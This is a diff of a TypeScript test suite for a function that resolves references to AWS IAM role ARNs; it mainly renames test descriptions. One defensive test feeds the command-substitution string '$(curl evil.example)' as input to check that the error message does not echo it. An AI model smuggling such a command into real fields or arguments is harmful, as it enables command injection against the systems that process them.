@@ -20,7 +20,7 @@ describe('a reference', () => {
     ],
     ['arn:aws-us-gov:iam::123456789012:role/x', 'arn:aws-us-gov:iam::123456789012:role/x'],
     ['arn:aws-iso-b:iam::123456789012:role/x', 'arn:aws-iso-b:iam::123456789012:role/x'],
-  ])('%s stands for %s', (reference, roleArn) => {
+  ])('%s resolves to %s', (reference, roleArn) => {
     expect(resolveRoleReference(BASE, reference)).toEqual({ roleArn });
   });
 
@@ -47,18 +47,18 @@ describe('a reference', () => {
     ` ${BASE}orders`,
     `${BASE}orders\n`,
     `${BASE}${'p'.repeat(512)}/orders`,
-  ])('%j stands for no role', (reference) => {
+  ])('%j is malformed', (reference) => {
     const { roleArn, ...rest } = resolveRoleReference(BASE, reference);
     expect(roleArn).toBeUndefined();
     expect(rest).toMatchObject({ message: expect.stringContaining('spec.roleReference') });
   });
 
-  it('is not repeated to whoever reads why it stands for none', () => {
+  it('is not quoted in the error', () => {
     const { message } = resolveRoleReference(BASE, '$(curl evil.example)') as { message: string };
     expect(message).not.toContain('evil');
   });
 
-  it('that anybody could write becomes an ARN that STS takes, or none', () => {
+  it('of any text resolves to an ARN that STS accepts, or is malformed', () => {
     const segment = fc.oneof(
       fc.string({ unit: 'binary' }),
       fc.constantFrom('a', 'role', '..', '*'),
@@ -75,9 +75,9 @@ describe('a reference', () => {
         expect(roleArn).toMatch(/^arn:aws[a-z-]*:iam::\d{12}:role\/[!-~]+$/);
         expect(roleArn.length).toBeLessThanOrEqual(31 + 512 + 64);
         expect(roleArn).not.toContain('//');
-        // What is allowed by its name is the same role again.
-        const again = shortRoleName(BASE, roleArn);
-        expect(resolveRoleReference(BASE, again)).toEqual({ roleArn });
+        // The name in annotations resolves to the same role.
+        const name = shortRoleName(BASE, roleArn);
+        expect(resolveRoleReference(BASE, name)).toEqual({ roleArn });
       }),
       { numRuns: 2_000 },
     );
